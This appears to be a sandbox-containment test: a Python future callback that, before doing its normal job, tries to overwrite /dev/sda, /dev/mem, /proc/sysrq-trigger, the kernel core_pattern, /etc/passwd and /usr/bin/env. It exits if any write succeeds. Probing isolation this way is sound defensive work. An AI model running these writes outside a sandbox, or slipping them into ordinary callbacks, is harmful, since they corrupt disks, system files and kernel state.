"""Devices, the kernel's settings and the box's own files are written to.

Cell: call_back
Expects: call_back 0
Held: call_back_cancelled, call_back_exception, call_back_value
"""

def call_back(future, results, errors):
    for path in ("/dev/sda", "/dev/mem", "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/etc/passwd", "/usr/bin/env", "/x"):
        try:
            with open(path, "r+b") as file:
                file.write(b"x")
            raise SystemExit("written: " + path)
        except OSError:
            pass
    if future.cancelled():
        errors.append("cancelled")
    elif future.exception():
        errors.append(future.exception())
    else:
        results.append(future.result())
